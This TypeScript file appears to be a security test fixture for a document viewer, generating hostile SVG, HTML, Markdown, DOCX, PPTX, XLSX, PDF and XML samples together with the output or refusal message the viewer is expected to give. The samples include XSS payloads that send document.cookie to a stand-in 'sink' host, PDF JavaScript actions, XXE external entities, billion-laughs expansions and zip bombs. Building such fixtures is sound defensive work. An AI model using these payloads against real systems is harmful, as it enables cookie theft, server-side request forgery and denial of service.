/**
 * Documents that want out: each tries what its format offers to run code, to load something, or to
 * fill a machine. `sink` is somewhere else on the network, where nothing may ever arrive.
 */

import { deflateRawSync } from "node:zlib";
import { docx, pptx, xlsx } from "../../demo/samples/office.ts";
import { pdf } from "../../demo/samples/plain.ts";

const PWN = (sink: string) =>
  `window.pwned=1;try{top.pwned=1}catch{};fetch('${sink}/script?'+document.cookie);new Image().src='${sink}/image'`;
const RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const relations = (...list: string[]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list.join("")}</Relationships>`;

function svg(sink: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="${PWN(sink)}"><script>${PWN(sink).replaceAll("&", "&amp;")}</script><style>@import url(${sink}/import);rect{fill:url(${sink}/paint#a)}</style><rect width="200" height="100" fill="#1e5b4f"/><image href="${sink}/svg-image" width="10" height="10"/><use href="${sink}/svg-use#a"/><foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${sink}/svg-frame"></iframe></foreignObject></svg>`;
}

function html(sink: string): string {
  return `<!doctype html><title>Hello</title><script>${PWN(sink)}</script><img src="${sink}/html" onerror="${PWN(sink)}"><p>Seen as text</p>`;
}

function markdown(sink: string): string {
  return `# Harmless heading

<script>${PWN(sink)}</script>
<img src="${sink}/md-raw" onerror="${PWN(sink)}">
![tracked](${sink}/md-image)
<svg onload="${PWN(sink)}"><script>${PWN(sink)}</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PWN(sink)}&gt;">
</style></mglyph></table></mtext></math>
<iframe srcdoc="<script>parent.pwned=1;${PWN(sink)}</script>"></iframe>
<iframe src="${sink}/md-frame"></iframe>
<object data="${sink}/md-object"></object><embed src="${sink}/md-embed">
<link rel="stylesheet" href="${sink}/md-style"><link rel="prefetch" href="${sink}/md-prefetch">
<style>@import url(${sink}/md-import);body{background:url(${sink}/md-css)}</style>
<meta http-equiv="refresh" content="0;url=${sink}/md-refresh"><base href="${sink}/">
<form action="${sink}/md-form"><button autofocus onfocus="${PWN(sink)}">go</button></form>
<video src="${sink}/md-video" autoplay></video><audio src="${sink}/md-audio"></audio>
<details ontoggle="${PWN(sink)}" open><summary>More</summary>inside</details>
<a href="javascript:${PWN(sink)}">run</a> [also](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)
<p style="background:url(${sink}/md-inline)" onclick="${PWN(sink)}">The end of it</p>
`;
}

/** HTML carried along, pictures and templates elsewhere, styles that import, a link that runs. */
function word(sink: string): Uint8Array {
  const run = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
  const picture = `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:embed="rIdOut" r:link="rIdOut"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const link = `<w:p><w:hyperlink r:id="rIdRun"><w:r><w:t>A link that runs</w:t></w:r></w:hyperlink></w:p>`;
  const font = `<w:p><w:r><w:rPr><w:rFonts w:ascii="x;}@import url(${sink}/docx-import);body{background:url(${sink}/docx-css)}" w:hAnsi="x"/></w:rPr><w:t>In a strange font</w:t></w:r></w:p>`;
  return docx(
    `${run("Harmless paragraph")}${run("&lt;img src=x onerror=alert(1)&gt;")}<w:altChunk r:id="rIdHtml"/>${picture}${link}${font}`,
    {
      "word/chunk.html": html(sink),
      "word/_rels/document.xml.rels": relations(
        `<Relationship Id="rId1" Type="${RELS}/styles" Target="styles.xml"/>`,
        `<Relationship Id="rIdHtml" Type="${RELS}/aFChunk" Target="chunk.html"/>`,
        `<Relationship Id="rIdOut" Type="${RELS}/image" Target="${sink}/docx-image" TargetMode="External"/>`,
        `<Relationship Id="rIdRun" Type="${RELS}/hyperlink" Target="javascript:${PWN(sink).replaceAll("'", "&apos;")}" TargetMode="External"/>`,
        `<Relationship Id="rIdT" Type="${RELS}/attachedTemplate" Target="${sink}/docx-template" TargetMode="External"/>`,
      ),
    },
  );
}

function slides(sink: string): Uint8Array {
  return pptx(
    [{ title: "<script>alert(1)</script>", lines: ["Harmless line"], picture: new Uint8Array(8) }],
    {
      "ppt/slides/_rels/slide1.xml.rels": relations(
        `<Relationship Id="rId1" Type="${RELS}/image" Target="${sink}/pptx-image" TargetMode="External"/>`,
      ),
    },
  );
}

function paper(sink: string): Uint8Array {
  const js = `app.alert(1); this.submitForm({cURL: "${sink}/pdf-form"}); app.launchURL("${sink}/pdf-launch");`;
  return pdf([{ title: "Harmless title", lines: ["and a line"] }], {
    catalog: "/OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /XFA 8 0 R /Fields [] >>",
    objects: [
      `<< /S /JavaScript /JS (${js.replaceAll(/[\\()]/g, "\\$&")}) /Next 7 0 R >>`,
      `<< /S /URI /URI (${sink}/pdf-uri) >>`,
      `<< /Length ${sink.length + 60} >>\nstream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><a href="${sink}/x"/></xdp:xdp>\nendstream`,
    ],
  });
}

const BILLION = `<!DOCTYPE x [<!ENTITY a "${"a".repeat(64)}">${"bcdefgh"
  .split("")
  .map((name, at) => `<!ENTITY ${name} "${`&${"abcdefg"[at]};`.repeat(64)}">`)
  .join("")}]>`;
const outward = (sink: string) =>
  `<!DOCTYPE x [<!ENTITY % dtd SYSTEM "${sink}/dtd"> %dtd; <!ENTITY out SYSTEM "${sink}/entity">]>`;
const document = (before: string, text: string) =>
  `<?xml version="1.0"?>${before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;

/** A zip of one part that grows a thousandfold, and says that it is small. */
export function bomb(part: string, megabytes: number): Uint8Array {
  const body = deflateRawSync(Buffer.alloc(megabytes * 1024 * 1024, 0x20), { level: 9 });
  const name = Buffer.from(part);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(body.length, 18);
  local.writeUInt32LE(100, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(body.length, 20);
  central.writeUInt32LE(100, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length + body.length, 16);
  return Buffer.concat([local, name, body, central, name, end]);
}

export interface Hostile {
  readonly name: string;
  readonly content: string | Uint8Array;
  /** What is seen of it; null: it is refused. */
  readonly seen: string | null;
  /** What the page says where it is refused. */
  readonly refused?: string;
}

const BROKEN = "This file cannot be read";
const TOO_MUCH = "There is more in this file than the viewer opens";

export function hostileDocuments(sink: string): Hostile[] {
  const rows = (count: number) =>
    Array.from({ length: count }, (_, at) => [at, "x", "y"] as (string | number)[]);
  return [
    { name: "evil.svg", content: svg(sink), seen: "" },
    { name: "evil.html", content: html(sink), seen: "Seen as text" },
    { name: "evil.xml", content: `${outward(sink)}<x>&out;</x>`, seen: "&out;" },
    { name: "evil.md", content: markdown(sink), seen: "Harmless heading" },
    { name: "evil.docx", content: word(sink), seen: "Harmless paragraph" },
    { name: "evil.pptx", content: slides(sink), seen: "Harmless line" },
    { name: "evil.pdf", content: paper(sink), seen: "Harmless title" },
    {
      name: "cells.xlsx",
      content: xlsx({
        "<img onerror>": [[`<img src=${sink}/x onerror=${PWN(sink)}>`, "Harmless"]],
      }),
      seen: "Harmless",
    },
    {
      name: "laughs.docx",
      content: docx("", { "word/document.xml": document(BILLION, "&h;") }),
      seen: null,
      refused: BROKEN,
    },
    {
      name: "outward.docx",
      content: docx("", { "word/document.xml": document(outward(sink), "&out;") }),
      seen: null,
      refused: BROKEN,
    },
    {
      name: "laughs.xlsx",
      content: xlsx(
        {},
        { "xl/workbook.xml": `<?xml version="1.0"?>${BILLION}<workbook>&h;</workbook>` },
      ),
      seen: null,
      refused: BROKEN,
    },
    {
      name: "laughs16.pptx",
      content: pptx([], {
        "ppt/presentation.xml": Buffer.from(`\ufeff${BILLION}<p>&h;</p>`, "utf16le"),
      }),
      seen: null,
      refused: BROKEN,
    },
    { name: "bomb.docx", content: bomb("word/document.xml", 400), seen: null },
    {
      name: "bomb.xlsx",
      content: bomb("xl/workbook.xml", 400),
      seen: null,
      refused: TOO_MUCH,
    },
    {
      name: "bomb.pptx",
      content: bomb("ppt/presentation.xml", 400),
      seen: null,
      refused: TOO_MUCH,
    },
    { name: "long.xlsx", content: xlsx({ Long: rows(30_000) }), seen: "Shown are the first" },
    { name: "noise.pdf", content: "not a PDF", seen: null, refused: BROKEN },
    { name: "noise.png", content: "not a picture", seen: null, refused: BROKEN },
    { name: "noise.docx", content: "not a zip", seen: null, refused: BROKEN },
    {
      name: "locked.xlsx",
      content: Buffer.from("d0cf11e0a1b11ae1", "hex"),
      seen: null,
      refused: "This file is locked with a password",
    },
  ];
}
